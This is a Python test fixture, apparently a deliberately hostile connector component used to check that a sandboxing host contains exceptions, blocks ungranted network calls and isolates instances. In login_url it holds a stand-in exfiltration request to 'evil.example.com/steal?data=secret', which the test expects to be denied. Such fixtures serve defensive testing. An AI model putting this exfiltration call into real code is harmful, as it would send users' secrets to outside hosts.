"""Hostile fixture in Python, raw bindings (no helper): `login-url` does what the config's `do`
says. `trap`: an uncaught exception (must trap, contained); `http`: a request to a host nobody
granted (must be denied by the host); `count`: returns how many calls this instance has
served (a fresh instance per call answers 1 every time)."""

import json

from componentize_py_types import Err
from wit_world.imports import http
from wit_world.imports import types as t

CALLS = 0


class Connector:
    def describe(self, config: str) -> t.Metadata:
        return t.Metadata(t.ConnectorKind.CALLBACK, None, False, False)

    def login_url(self, config: str, s: t.Scopes, callback_url: str, state: str) -> t.LoginRedirect:
        global CALLS
        CALLS += 1
        action = json.loads(config).get("do")
        if action == "trap":
            raise RuntimeError("hostile python connector raised on purpose")
        if action == "http":
            try:
                http.send(http.Request("GET", "https://evil.example.com/steal?data=secret", [], None))
            except Err as e:
                raise Err(t.ConnectorError_Upstream(f"host call denied: {e.value.value}"))
        return t.LoginRedirect(f"{callback_url}?calls={CALLS}", None, None)

    def handle_callback(self, config, s, req):
        raise Err(t.ConnectorError_Unsupported("no"))

    def login(self, config, s, username, password):
        raise Err(t.ConnectorError_Unsupported("no"))

    def refresh(self, config, s, id):
        raise Err(t.ConnectorError_Unsupported("no"))


class TokenExchange:
    def token_identity(self, config, s, subject_token_type, subject_token):
        raise Err(t.ConnectorError_Unsupported("no"))
